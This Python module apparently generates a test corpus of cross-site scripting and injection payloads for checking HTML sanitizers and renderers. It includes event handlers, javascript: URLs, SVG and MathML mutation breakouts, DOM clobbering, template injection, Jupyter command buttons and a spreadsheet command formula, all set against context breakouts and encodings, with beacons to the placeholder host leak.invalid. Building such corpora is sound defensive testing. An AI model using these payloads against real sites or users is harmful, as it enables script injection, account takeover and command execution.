"""Hostile texts, made from a grammar of our own: vectors x the context they break out of x how they are written.

Each vector counts itself in ``top.__fired``, opens a dialog, or asks a host that does not exist (``leak.invalid``)
when a browser takes it for markup; elements carry the class ``hostile``, so that markup which was parsed and did
nothing is found as well.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from itertools import cycle

HOST = "leak.invalid"
FIRE = "top.__fired=1+~~top.__fired"
FIRE_CALL = "(top.__fired=1+~~top.__fired)"
MARK = "class=hostile"
LEAK = f"http://{HOST}/"

EVENTS = (  # element, event, what else it needs to fire by itself
    ("img", "onerror", "src=x"),
    ("svg", "onload", ""),
    ("body", "onload", ""),
    ("body", "onpageshow", ""),
    ("details", "ontoggle", "open"),
    ("input", "onfocus", "autofocus"),
    ("select", "onfocus", "autofocus"),
    ("textarea", "onfocus", "autofocus"),
    ("button", "onfocus", "autofocus"),
    ("div", "onfocus", "autofocus tabindex=1"),
    ("video", "onerror", "src=x"),
    ("audio", "onerror", "src=x"),
    ("object", "onerror", "data=x:"),
    ("embed", "onerror", "src=x:"),
    ("iframe", "onload", ""),
    ("link", "onerror", "rel=stylesheet href=x:"),
    ("script", "onerror", "src=x:"),
    ("style", "onload", ""),
    ("image", "onerror", "src=x"),
    ("marquee", "onstart", ""),
    ("div", "onanimationstart", "style='animation:x 1ms'"),
    ("div", "onmouseover", "style='position:fixed;inset:0'"),
    ("a", "onpointerenter", "style='position:fixed;inset:0'"),
    ("xss", "onscrollend", "style='overflow:auto' tabindex=1"),
    ("dialog", "onbeforetoggle", "open popover"),
)

ELEMENTS = (
    f"<script {MARK}>{FIRE}</script>",
    f"<script {MARK} type=module>{FIRE}</script>",
    f'<script {MARK} type=importmap>{{"imports":{{"three":"{LEAK}map.js"}}}}</script>',
    f"<script {MARK} src={LEAK}s.js></script>",
    f"<iframe {MARK} srcdoc='<script>{FIRE}</script>'></iframe>",
    f"<iframe {MARK} src='javascript:{FIRE}'></iframe>",
    f"<iframe {MARK} src='data:text/html,<script>alert(1)</script>'></iframe>",
    f"<iframe {MARK} src={LEAK}frame></iframe>",
    f"<object {MARK} data='data:text/html,<script>alert(1)</script>'></object>",
    f"<embed {MARK} src='javascript:{FIRE}'>",
    f"<a {MARK} href='javascript:{FIRE}'>press here</a>",
    f"<a {MARK} href='data:text/html,<script>alert(1)</script>' target=_top>press here</a>",
    f"<a {MARK} href={LEAK}a ping={LEAK}ping>press here</a>",
    f"<form {MARK} action='javascript:{FIRE}'><button>send</button></form>",
    f"<form {MARK} id=workbench><input name=attributes><input name=children><input name=parentNode></form>",
    f"<form {MARK} name=documentElement><input name=appendChild><img name=querySelector></form>",
    f"<a {MARK} id=__fired></a><a {MARK} id=axe name=run href='{LEAK}c'></a>",
    f"<meta {MARK} http-equiv=refresh content='0;url={LEAK}meta'>",
    f"<meta {MARK} http-equiv=refresh content='0;url=javascript:{FIRE}'>",
    f"<base {MARK} href={LEAK}>",
    f"<link {MARK} rel=stylesheet href={LEAK}l.css>",
    f"<link {MARK} rel=prefetch href={LEAK}prefetch>",
    f"<img {MARK} src={LEAK}i.png>",
    f"<img {MARK} srcset='{LEAK}set.png 2x'>",
    f"<picture {MARK}><source srcset={LEAK}p.png><img></picture>",
    f"<video {MARK} poster={LEAK}poster.png></video>",
    f"<input {MARK} type=image src={LEAK}input.png>",
    f"<body {MARK} background={LEAK}b.png>",
    f"<table {MARK} background={LEAK}t.png></table>",
    f"<style {MARK}>@import '{LEAK}import.css'; * {{ display: none !important }}</style>",
    f"<style {MARK}>body {{ background: url({LEAK}url.png) }} @font-face {{ src: url({LEAK}f) }}</style>",
    f"<div {MARK} style='background:url({LEAK}style.png)'>styled</div>",
    f"<div {MARK} style='width:expression({FIRE});behavior:url({LEAK}x.htc)'>old</div>",
    f"<svg {MARK}><script>{FIRE}</script></svg>",
    f"<svg {MARK}><script href='data:text/javascript,{FIRE}'></script></svg>",
    f"<svg {MARK}><animate onbegin='{FIRE}' attributeName=x dur=1s></svg>",
    f"<svg {MARK}><set onbegin='{FIRE}' attributeName=x to=1 begin=0s></svg>",
    f"<svg {MARK}><a xlink:href='javascript:{FIRE}'><text y=20>press</text></a></svg>",
    f"<svg {MARK}><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x'></use></svg>",
    f"<svg {MARK}><image href={LEAK}svg.png width=9 height=9></svg>",
    f"<svg {MARK}><foreignObject><img src=x onerror='{FIRE}'></foreignObject></svg>",
    f"<svg {MARK}><style><img src=x onerror='{FIRE}'></style></svg>",
    f"<math {MARK}><a xlink:href='javascript:{FIRE}' href='javascript:{FIRE}'>press</a></math>",
    f"<math {MARK}><maction actiontype=statusline xlink:href='javascript:{FIRE}'>x</maction></math>",
    f"<math><mtext></form><form {MARK}><mglyph><style></math><img src=x onerror='{FIRE}'>",
    f"<math><mtext><table><mglyph><style><!--</style><img {MARK} title='--><img src=x onerror={FIRE}>'>",
    f"<svg></p><style {MARK}><a id='</style><img src=x onerror={FIRE}>'>",
    f"<noscript><p title='</noscript><img {MARK} src=x onerror={FIRE}>'>",
    f"<template {MARK}><img src=x onerror='{FIRE}'></template>",
    f"<div {MARK}><template shadowrootmode=open><img src=x onerror='{FIRE}'></template></div>",
    f"<xmp {MARK}><p title='</xmp><img src=x onerror={FIRE}>'>",
    f"<listing {MARK}>&lt;img src=x onerror={FIRE}&gt;</listing>",
    f"<!--><img {MARK} src=x onerror='{FIRE}'>-->",
    f"<![CDATA[<img {MARK} src=x onerror='{FIRE}'>]]>",
    f"<?xml version='1.0'?><?xml-stylesheet href='javascript:{FIRE}'?><img {MARK} src=x onerror='{FIRE}'>",
    f"<button {MARK} data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{{}}'>run</button>",
    f"<a {MARK} data-commandlinker-command='kernelmenu:restart' href=#>restart</a>",
    f"<div {MARK} contenteditable autofocus onfocus='{FIRE}'>x</div>",
    f"<keygen {MARK} autofocus onfocus='{FIRE}'>",
    f"<isindex {MARK} action='javascript:{FIRE}' type=image>",
    f"<plaintext {MARK}>",
)

TEXTS = (  # what other readers of text would act on: Markdown, TeX, templates, terminals, sheets, charts
    f"![x]({LEAK}md.png) [press](javascript:{FIRE}) <javascript:{FIRE}>",
    f"[x]: javascript:{FIRE}\n[press][x]",
    f"```html\n<img {MARK} src=x onerror='{FIRE}'>\n```\n<img {MARK} src=x onerror='{FIRE}'>",
    f"{{{{constructor.constructor('{FIRE}')()}}}}",
    f"${{{FIRE}}} #{{{FIRE}}} <%= {FIRE} %> {{% {FIRE} %}}",
    f"$\\href{{javascript:{FIRE}}}{{x}}$ $$\\unicode{{<img src=x onerror={FIRE}>}}$$",
    f"\\(\\style{{background:url({LEAK}tex.png)}}{{x}}\\) \\includegraphics{{{LEAK}tex.pdf}}",
    f"<b>bold</b> <a href='javascript:{FIRE}' target='_self' {MARK}>chart label</a> <sub onclick='{FIRE}'>x</sub>",
    f"%{{customdata}} %{{x}}<extra><img {MARK} src=x onerror='{FIRE}'></extra>",
    f"\x1b]8;;javascript:{FIRE}\x07press\x1b]8;;\x07 \x1b[2J\x1b[31m<img {MARK} src=x onerror='{FIRE}'>",
    f'=HYPERLINK("{LEAK}sheet","press") =cmd|\'/C calc\'!A0 @SUM(1) +1-1',
    f"\u202e\u2066<img {MARK} src=x onerror='{FIRE}'>\u2067 unclosed",
    f"\u200b\ufeff\u00ad<img {MARK} src=x onerror='{FIRE}'>\U000e0041\U000e007f",
    f"<img\u2028{MARK}\u2029src=x\u0085onerror='{FIRE}'>",
    f"__proto__ constructor toString {FIRE}",
    f"'); {FIRE}; ('",
    f'"}}); {FIRE}; ({{"a":"',
    f"`+{FIRE}+`",
    f"javascript:{FIRE}",
    f"vbscript:{FIRE} data:text/html,<script>{FIRE}</script>",
)

CONTEXTS = ("", "\">", "'>", "--><!-->", "</textarea>", "</title>", "</style>", "</script>", "</option></select>",
            "]]>", "</template>", "</noscript>", "</svg>", "</math>", "\x00", "`>", "<x y=\"")  # fmt: skip

WRITINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("<", "<\n", 0).replace(" ", "\t"),
    lambda text: "".join(c.upper() if at % 2 else c for at, c in enumerate(text)) if FIRE not in text else text,
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace(" ", "/", 1),
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#x{ord(c):x};" for c in text),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("javascript:", "java\nscript:").replace("<script", "<scr\x00ipt"),
    lambda text: text.replace("javascript:", "&#106;avascript&colon;"),
    lambda text: f"{text}\n{text[::-1]}",
)


def vectors() -> list[str]:
    """Each way to be more than text, once, as plainly as it can be written."""
    events = [f"<{tag} {MARK} {event}='{FIRE}' {more}>" for tag, event, more in EVENTS]
    return [*events, *ELEMENTS, *TEXTS]


def payloads() -> list[str]:
    """All of them: each vector plain, after a context it breaks out of, and in another writing."""
    return list(dict.fromkeys(_written()))


def _written() -> Iterator[str]:
    contexts, writings = cycle(CONTEXTS[1:]), cycle(WRITINGS[1:])
    for vector in vectors():
        yield vector
        yield next(contexts) + vector
        yield next(writings)(vector)
        yield next(contexts) + next(writings)(vector)
